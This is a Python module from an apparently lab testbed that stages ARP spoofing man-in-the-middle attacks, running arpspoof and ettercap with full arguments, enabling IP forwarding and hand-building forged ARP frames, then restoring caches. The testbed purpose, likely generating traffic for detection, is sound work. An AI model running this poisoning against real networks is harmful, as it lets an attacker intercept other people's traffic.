"""ARP spoofing: forged answers put the attacker between a client and a server, and it forwards."""

from __future__ import annotations

import re
import subprocess
from dataclasses import dataclass

from wirelens_testbed.attacks import frames
from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
from wirelens_testbed.attacks.frame_sender import DueFrame
from wirelens_testbed.attacks.network import DEVICE, Machine
from wirelens_testbed.failure import LabError
from wirelens_testbed.scenario import Table

ARPSPOOF_PROGRAMS = {"arpspoof": "dsniff"}
ETTERCAP_PROGRAMS = {"ettercap": "ettercap-text-only"}
PROGRAMS = ARPSPOOF_PROGRAMS | ETTERCAP_PROGRAMS

# Before it ends, arpspoof tells both the truth again, five times, a second apart.
RESTORE_S = 15.0
RESTORE_COUNT = 3
ARPSPOOF_PER_S = 0.5
FORWARDED_MAX = 200_000
# One visit in so many seconds goes through the attacker at least; others come as they come.
VISIT_INTERVAL_S = 2.5


@dataclass
class ArpSpoof(Attack):
    """Between one client and one server, both told that the attacker is the other."""

    name: str
    duration_s: float
    interval_s: float
    forwarded_max: int
    operation: int = frames.ARP_REPLY
    needs: frozenset[str] = frozenset({"web"})
    intercepts: bool = True

    def __post_init__(self) -> None:
        self.programs = {
            "arpspoof": ARPSPOOF_PROGRAMS, "ettercap_poisoning": ETTERCAP_PROGRAMS
        }.get(self.name, {})  # fmt: skip
        forged = 2 * (self.duration_s / self.interval_s + RESTORE_S + 1)
        self.bounds = Bounds(
            packets_max=OVERHEAD_PACKETS + round(forged),
            time_max_s=self.duration_s + RESTORE_S + 5,
            forwarded_max=self.forwarded_max,
        )

    def launch(self, scene: Scene) -> dict[str, object]:
        # It must pass packets on, and must not tell their senders of the shorter way. ettercap
        # does so by itself.
        forwards = "0" if self.name == "ettercap_poisoning" else "1"
        scene.lab.sysctl(
            scene.attacker.name,
            {
                "net/ipv4/ip_forward": forwards,
                "net/ipv4/conf/all/send_redirects": "0",
                f"net/ipv4/conf/{DEVICE}/send_redirects": "0",
            },
        )
        client = self._client(scene)
        server = scene.servers["web"].machine
        if self.name == "arpspoof":
            self._by_dsniff(scene, client, server)
        elif self.name == "ettercap_poisoning":
            self._by_ettercap(scene, client, server)
        else:
            self._by_frames(scene, client, server)
        return {"client": client.address, "server": server.address}

    def visits_meanwhile(self, scene: Scene) -> list[tuple[float, str, Machine]]:
        """The client goes on using the server, and so through the attacker."""
        visit_count = int(self.duration_s / VISIT_INTERVAL_S)
        client = self._client(scene)
        return [(VISIT_INTERVAL_S * (index + 0.5), "web", client) for index in range(visit_count)]

    def _client(self, scene: Scene) -> Machine:
        # By the number and not by `rng`, since it is asked for more than once.
        return scene.clients[scene.number % len(scene.clients)]

    def _by_dsniff(self, scene: Scene, client: Machine, server: Machine) -> None:
        tool = scene.start_tool(
            scene.attacker, "arpspoof", "-i", DEVICE, "-c", "own", "-r", "-t", client.address,
            server.address,
        )  # fmt: skip
        try:
            scene.lab.pause(min(self.duration_s, scene.time_left_s()))
            if tool.poll() is not None:
                raise LabError(
                    f"{scene.attacker.name}: arpspoof ended by itself with status "
                    f"{tool.returncode}, and should have run until it was stopped"
                )
            tool.terminate()
            tool.wait(RESTORE_S)
        except subprocess.TimeoutExpired:
            raise LabError(
                f"{scene.attacker.name}: arpspoof still ran {RESTORE_S:g} s after it was stopped"
            ) from None
        finally:
            scene.lab.stop(tool)

    def _by_ettercap(self, scene: Scene, client: Machine, server: Machine) -> None:
        # Its terminal is a pipe: `q` ends it, and it repairs both caches first.
        tool = scene.start_tool(
            scene.attacker, "ettercap", "--text", "--quiet", "--iface", DEVICE,
            "--mitm", "arp:remote", f"/{client.address}//", f"/{server.address}//",
            takes_input=True,
        )  # fmt: skip
        try:
            scene.lab.pause(min(self.duration_s, scene.time_left_s()))
            tool.communicate(b"q\n", timeout=RESTORE_S)
        except subprocess.TimeoutExpired:
            raise LabError(
                f"{scene.attacker.name}: ettercap still ran {RESTORE_S:g} s after it was stopped"
            ) from None
        finally:
            scene.lab.stop(tool)
        if tool.returncode:
            raise LabError(
                f"{scene.attacker.name}: ettercap ended with status {tool.returncode}, wanted 0"
            )

    def _by_frames(self, scene: Scene, client: Machine, server: Machine) -> None:
        sent: list[DueFrame] = []
        attacker_mac = frames.mac_bytes(scene.attacker.mac)
        pairs = ((client, server), (server, client))
        round_count = max(int(self.duration_s / self.interval_s), 1)
        for index in range(round_count):
            due_ns = round(index * self.interval_s * 1e9)
            for told, other in pairs:
                lie = attacker_mac, other.address
                sent.append(DueFrame(due_ns, self._telling(attacker_mac, told, lie)))
        for index in range(RESTORE_COUNT):
            due_ns = round((self.duration_s + index) * 1e9)
            for told, other in pairs:
                truth = frames.mac_bytes(other.mac), other.address
                sent.append(DueFrame(due_ns, self._telling(attacker_mac, told, truth)))
        said = scene.send_frames(sent)
        if not re.search(rf'"sent": {len(sent)}\b', said):
            raise LabError(f"wanted {len(sent)} forged ARP frames sent, the sender said: {said}")

    def _telling(self, source_mac: bytes, told: Machine, sender: tuple[bytes, str]) -> bytes:
        told_mac = frames.mac_bytes(told.mac)
        body = frames.arp(self.operation, sender, (told_mac, told.address))
        return frames.ethernet(source_mac, told_mac, frames.ETHER_TYPE_ARP, body)


def parse_arpspoof(name: str, table: Table) -> Attack:
    return ArpSpoof(
        name=name,
        duration_s=table.take("duration_s", float, 20.0, minimum=1, maximum=300),
        interval_s=1 / ARPSPOOF_PER_S,
        forwarded_max=_forwarded_max(table),
    )


def parse_forged(name: str, table: Table) -> Attack:
    operations = {"forged_arp_replies": frames.ARP_REPLY, "forged_arp_requests": frames.ARP_REQUEST}
    return ArpSpoof(
        name=name,
        duration_s=table.take("duration_s", float, 20.0, minimum=1, maximum=300),
        interval_s=table.take("interval_s", float, 1.0, minimum=0.1, maximum=10),
        forwarded_max=_forwarded_max(table),
        operation=operations[name],
    )


def _forwarded_max(table: Table) -> int:
    return table.take("forwarded_max", int, 50_000, minimum=0, maximum=FORWARDED_MAX)


ATTACKS = {
    "arpspoof": parse_arpspoof,
    "ettercap_poisoning": parse_arpspoof,
    "forged_arp_replies": parse_forged,
    "forged_arp_requests": parse_forged,
}
